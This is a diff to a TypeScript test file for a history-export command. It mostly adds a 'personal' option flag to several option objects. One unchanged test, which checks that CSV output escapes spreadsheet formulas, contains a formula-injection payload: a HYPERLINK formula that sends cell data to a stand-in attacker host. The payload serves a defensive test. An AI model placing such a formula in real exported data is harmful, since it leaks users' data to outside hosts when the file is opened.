@@ -85,13 +85,21 @@ const migrate = (to = model) => {
 }
 
 const check = (options: { since?: string; records?: boolean } = {}) => {
-  const all = { json: false, all: false, out: null, check: true, anchor: null }
+  const all = { json: false, all: false, personal: false, out: null, check: true, anchor: null }
   const asked = { since: null, records: false, ...options }
   return printed((io) => executeHistoryCommand({ database: lent(), ...all, ...asked }, io))
 }
 
 const anchored = async (name: string): Promise<string> => {
-  const rest = { json: false, all: false, out: null, check: false, since: null, records: false }
+  const rest = {
+    json: false,
+    all: false,
+    personal: false,
+    out: null,
+    check: false,
+    since: null,
+    records: false,
+  }
   const { code } = await printed((io) =>
     executeHistoryCommand({ database: lent(), ...rest, anchor: at(name) }, io),
   )
@@ -272,7 +280,8 @@ test('no spreadsheet computes what somebody has put into a key', async () => {
   const link = '=HYPERLINK("http://evil.test/?"&A1,"ok")'
   await (await opened()).write({ ...by, key: link }, (records) => records.insert(loan, row))
   let text = ''
-  for await (const line of historyText(connection, { json: false, all: false })) text += line
+  for await (const line of historyText(connection, { json: false, all: false, personal: false }))
+    text += line
   expect(text).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""ok"")"`)
   expect(withFormula(withoutFormula(link))).toBe(link)
 })
